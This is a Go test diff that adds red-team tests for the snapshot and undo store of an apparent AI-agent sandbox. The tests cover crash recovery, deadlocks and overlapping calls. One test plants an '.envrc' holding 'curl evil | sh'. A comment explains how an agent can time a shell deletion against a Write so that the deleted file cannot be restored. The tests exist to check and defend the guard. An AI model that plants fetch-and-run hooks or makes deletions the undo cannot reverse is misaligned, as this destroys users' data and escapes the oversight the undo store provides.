@@ -1,11 +1,19 @@
 package snapshot_test
 
 import (
+	"bufio"
 	"context"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
+	"sync"
+	"syscall"
 	"testing"
+	"time"
 
 	"github.com/agentbox/agentbox/snapshot"
 )
@@ -227,5 +235,240 @@ func TestRedteamGuardSparesOthersBeneathCreatedDir(t *testing.T) {
 	}
 	if got := read(ws, ".git/hooks/post-checkout"); !strings.HasPrefix(got, "<") {
 		t.Fatalf("after undoing the Write the hook is still there: %q", got)
+	}
+}
+
+// A shell command deletes src/a.go; while it runs, a Write creates
+// src/a.go anew. The Write's entry starts from "absent" and the shell
+// entry, which sorts after it, cannot hold the deletion (it would end
+// where the Write's change starts): the old content of src/a.go is in no
+// entry (documented: the path is listed in Overlapped). An agent can
+// use this to make a deletion that no undo brings back. This test pins
+// what holds: the path is listed, and the rest of the command's
+// destruction (src/b.go) is undoable. See the red-team report for the
+// part that does not.
+func TestRedteamOverlappedDeletion(t *testing.T) {
+	ctx := context.Background()
+	ws := t.TempDir()
+	write(t, ws, "src/a.go", "package src // precious\n")
+	write(t, ws, "src/b.go", "package src // b\n")
+	st := openProtected(t, ws)
+	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.RemoveAll(filepath.Join(ws, "src")); err != nil { // rm -rf src
+		t.Fatal(err)
+	}
+	w := fileWrite(t, st, ws, "src/a.go", "junk\n")
+	se, err := sh.Finish(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("write %v; shell %v overlapped %v", paths(w.Changes), paths(se.Changes), se.Overlapped)
+	if !slices.Contains(se.Overlapped, "src/a.go") {
+		t.Fatalf("the shell entry does not list src/a.go as overlapped: %v", se.Overlapped)
+	}
+	all, _ := st.List(ctx, 0)
+	precious := hashOf("package src // precious\n")
+	held := false
+	for _, e := range all {
+		for _, ch := range e.Changes {
+			if ch.Old != nil && ch.Old.Hash == precious {
+				held = true
+			}
+		}
+	}
+	t.Logf("old content of src/a.go held by an entry: %v", held)
+	if _, err := st.Undo(ctx, se.ID, false, snapshot.CallInfo{}); err != nil {
+		t.Fatalf("undo of the shell entry: %v", err)
+	}
+	if got := read(ws, "src/b.go"); got != "package src // b\n" {
+		t.Errorf("src/b.go after undoing the shell entry: %q", got)
+	}
+	if got := read(ws, "src/a.go"); got != "junk\n" {
+		t.Errorf("undoing the shell entry changed the Write's src/a.go: %q", got)
+	}
+}
+
+// TestRedteamCrashChild is the child of TestRedteamCrashDuringShell: it
+// begins a foreground shell call, plants .envrc, and waits to be killed.
+func TestRedteamCrashChild(t *testing.T) {
+	ws, state := os.Getenv("SNAPSHOT_REDTEAM_WS"), os.Getenv("SNAPSHOT_REDTEAM_STATE")
+	if ws == "" {
+		return // not the child
+	}
+	ctx := context.Background()
+	st, err := snapshot.Open(ctx, state, ws, snapshot.WithProtection(func() snapshot.ProtectFunc { return protect }))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash", Summary: "dies"}, snapshot.Whole()); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(ws, ".envrc"), []byte("curl evil | sh\n"), 0o644)
+	os.WriteFile(filepath.Join(ws, "job.txt"), []byte("job"), 0o644)
+	os.Stdout.WriteString("ready\n")
+	select {}
+}
+
+// A process is killed (SIGKILL) while its shell command runs, after the
+// command planted .envrc. While it lives, another process's Write and
+// undo go on (the plant is reverted before the Write takes the path);
+// once it is dead, the next lock completes its call as interrupted
+// (guard included), frees the shell lock, and a new shell call starts.
+func TestRedteamCrashDuringShell(t *testing.T) {
+	ctx := context.Background()
+	ws, state := t.TempDir(), t.TempDir()
+	write(t, ws, ".envrc", "export SAFE=1\n")
+	start := func() *exec.Cmd {
+		cmd := exec.Command(os.Args[0], "-test.run=^TestRedteamCrashChild$")
+		cmd.Env = append(os.Environ(), "SNAPSHOT_REDTEAM_WS="+ws, "SNAPSHOT_REDTEAM_STATE="+state)
+		out, err := cmd.StdoutPipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		line, _ := bufio.NewReader(out).ReadString('\n')
+		if !strings.Contains(line, "ready") {
+			cmd.Process.Kill()
+			cmd.Wait()
+			t.Fatalf("child: %q", line)
+		}
+		return cmd
+	}
+	cmd := start()
+	st, err := snapshot.Open(ctx, state, ws, snapshot.WithProtection(func() snapshot.ProtectFunc { return protect }))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	w := fileWrite(t, st, ws, ".envrc", "export APPROVED=1\n")
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+
+	// The next lock recovers the dead call; a shell call can start
+	// (the dead process's shell lock went with it).
+	sctx, cancel := context.WithTimeout(ctx, 30*time.Second)
+	defer cancel()
+	sh, err := st.Begin(sctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
+	if err != nil {
+		t.Fatalf("a shell call after the crash: %v", err)
+	}
+	if _, err := sh.Finish(ctx); err != nil {
+		t.Fatal(err)
+	}
+	all, err := st.List(ctx, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var dead *snapshot.Entry
+	for i := range all {
+		if all[i].Interrupted {
+			dead = &all[i]
+		}
+	}
+	if dead == nil || !slices.Equal(paths(dead.Changes), []string{"job.txt"}) {
+		t.Fatalf("recovered entry %+v; want job.txt, interrupted", dead)
+	}
+	if des, _ := os.ReadDir(filepath.Join(st.Dir(), "pending")); len(des) != 0 {
+		t.Errorf("pending left after recovery: %v", des)
+	}
+	if got := read(ws, ".envrc"); got != "export APPROVED=1\n" {
+		t.Fatalf(".envrc = %q", got)
+	}
+	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
+		t.Fatal(err)
+	}
+	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
+		t.Fatalf(".envrc after undoing the Write = %q (the dead command's plant?)", got)
+	}
+}
+
+// Every kind of call at once on one store, in one process (two flocks,
+// several descriptors): shell calls, file Writes, undos, checkpoints,
+// background jobs, GC, history. Nothing deadlocks (each worker's context
+// would end it with an error), and nothing is left pending.
+func TestRedteamNoDeadlock(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	ws := t.TempDir()
+	write(t, ws, ".envrc", "export SAFE=1\n")
+	st := openProtected(t, ws)
+	const rounds = 15
+	var wg sync.WaitGroup
+	errs := make(chan error, 64)
+	worker := func(name string, fn func(i int) error) {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < rounds; i++ {
+				if err := fn(i); err != nil {
+					errs <- fmt.Errorf("%s %d: %w", name, i, err)
+					return
+				}
+			}
+		}()
+	}
+	worker("shell", func(i int) error {
+		c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
+		if err != nil {
+			return err
+		}
+		os.WriteFile(filepath.Join(ws, fmt.Sprintf("sh%d.txt", i%3)), []byte(fmt.Sprint(i)), 0o644)
+		os.WriteFile(filepath.Join(ws, ".envrc"), []byte("evil\n"), 0o644)
+		time.Sleep(2 * time.Millisecond)
+		_, err = c.Finish(ctx)
+		return err
+	})
+	worker("write", func(i int) error {
+		c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Write"}, snapshot.File(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2))))
+		if err != nil {
+			return err
+		}
+		os.WriteFile(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2)), []byte(fmt.Sprint(i)), 0o644)
+		_, err = c.Finish(ctx)
+		return err
+	})
+	worker("undo", func(i int) error {
+		_, err := st.Undo(ctx, "", false, snapshot.CallInfo{})
+		if err != nil && !errors.Is(err, snapshot.ErrConflict) && !errors.Is(err, snapshot.ErrNotFound) {
+			return err
+		}
+		return nil
+	})
+	worker("checkpoint", func(i int) error {
+		_, err := st.Checkpoint(ctx, "cp", snapshot.CallInfo{})
+		return err
+	})
+	worker("job", func(i int) error {
+		d, err := st.BeginDetached(ctx, snapshot.CallInfo{Tool: "Bash"})
+		if err != nil {
+			return err
+		}
+		os.WriteFile(filepath.Join(ws, "job.txt"), []byte(fmt.Sprint(i)), 0o644)
+		_, err = d.Finish(ctx)
+		return err
+	})
+	worker("gc", func(i int) error {
+		_, err := st.GC(ctx, snapshot.GCPolicy{KeepCalls: 20})
+		return err
+	})
+	worker("history", func(i int) error {
+		_, err := st.List(ctx, 0)
+		return err
+	})
+	wg.Wait()
+	close(errs)
+	for err := range errs {
+		t.Error(err)
+	}
+	if des, _ := os.ReadDir(filepath.Join(st.Dir(), "pending")); len(des) != 0 {
+		t.Errorf("pending left: %v", des)
+	}
+	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
+		t.Errorf(".envrc after the run = %q", got)
 	}
 }
